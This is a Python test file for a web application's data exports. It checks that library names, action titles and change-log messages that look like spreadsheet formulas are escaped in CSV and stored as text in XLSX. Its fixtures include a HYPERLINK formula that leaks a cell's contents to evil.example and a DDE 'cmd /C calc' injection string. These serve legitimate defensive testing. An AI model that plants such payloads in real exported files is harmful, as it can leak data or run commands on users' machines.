"""Text people typed never becomes a formula in a downloaded CSV or XLSX (issue 12, item 8): a library, an action
or a change-log entry named =HYPERLINK(...) is written with a leading quote in CSV and as text in XLSX; numbers
stay numbers; and the quote comes off again when an export is imported back."""

import csv
import datetime
import io

from openpyxl import load_workbook

from sirbi.cooperation.models import Action, Line, Objective
from sirbi.core.changelog import save_object
from sirbi.core.downloads import csv_cell
from sirbi.core.tables import read_table
from sirbi.registry.models import Library

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


def test_csv_cells(lima_library):
    assert [csv_cell(v) for v in ("=1+1", "+51 1 234", "-x", "@SUM(A1)", "\tx", "\rx", "Lima", -12.5, 3, None)] == [
        "'=1+1", "'+51 1 234", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "Lima", -12.5, 3, None]


def test_a_library_named_like_a_formula_is_exported_as_text(client, peru, secretary):
    library = Library(name=PAYLOAD, country=peru, type="public", locality="Lima", phone="+51 1 2345678",
                      latitude=-12.05, longitude=-77.04)
    save_object(library, user=secretary)
    header, row = csv_rows(client.get("/en/registry/libraries/", {"export": "csv"}))
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == "'" + PAYLOAD and cells["phone"] == "'+51 1 2345678"
    assert cells["latitude"] == "-12.05"  # a number, not text: no quote
    sheet = load_workbook(io.BytesIO(body(client.get("/en/registry/libraries/", {"export": "xlsx"})))).active
    header = [c.value for c in sheet[1]]
    name = sheet.cell(2, header.index("name") + 1)
    assert name.value == PAYLOAD and name.data_type == "s"
    assert sheet.cell(2, header.index("latitude") + 1).value == -12.05
    # Imported back, the file gives the name as it was.
    table = read_table(body(client.get("/en/registry/libraries/", {"export": "csv"})), "export.csv")
    assert table.rows[0][1][table.header.index("name")] == PAYLOAD


def test_an_action_and_the_change_log_are_exported_as_text(client, as_user, peru, secretary):
    line = Line.objects.create(code="l", name="Line")
    objective = Objective.objects.create(line=line, code="o", name="Objective")
    action = Action(code="a1", title=PAYLOAD, objective=objective, lead_country=peru, start=datetime.date(2026, 1, 1),
                    end=datetime.date(2026, 12, 31))
    save_object(action, user=secretary, message="@SUM(1+1)*cmd|' /C calc'!A0")
    header, row = csv_rows(client.get("/en/cooperation/roadmap/actions.csv"))
    assert dict(zip(header, row, strict=True))["title"] == "'" + PAYLOAD
    header, *rows = csv_rows(as_user(secretary).get("/en/platform/changes/", {"export": "csv"}))
    entry = dict(zip(header, rows[0], strict=True))
    assert entry["object_repr"].startswith("'=") or entry["object_repr"] == "a1"
    assert entry["message"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
